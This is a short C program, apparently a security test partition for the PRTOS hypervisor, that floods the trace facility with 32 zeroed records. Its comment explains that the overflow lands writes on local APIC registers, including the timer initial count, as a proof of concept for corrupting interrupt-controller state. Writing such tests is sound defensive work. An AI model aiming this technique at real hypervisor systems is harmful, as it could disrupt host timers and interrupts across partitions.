/*
 * attack2_forged_lapic_block, P0 (normal): appends 32 trace records of zeros (record
 * 24's last payload word lands on the APIC timer's initial count, 0xFEE00380; others
 * on the spurious-vector and interrupt-command registers), then spins.
 */
#include <prtos.h>
#include <stdio.h>
#include <string.h>

void partition_main(void)
{
	prtos_trace_event_t ev;
	prtos_s32_t r = 0;
	int i;

	printf("[Spinner] appending 32 trace records, then spinning\n");
	for (i = 0; i < 32; i++) {
		memset(&ev, 0, sizeof(ev));
		r = prtos_trace_event(1, &ev);
	}
	printf("[Spinner] last trace_event returned %d\n", r);
	for (;;)
		;
}
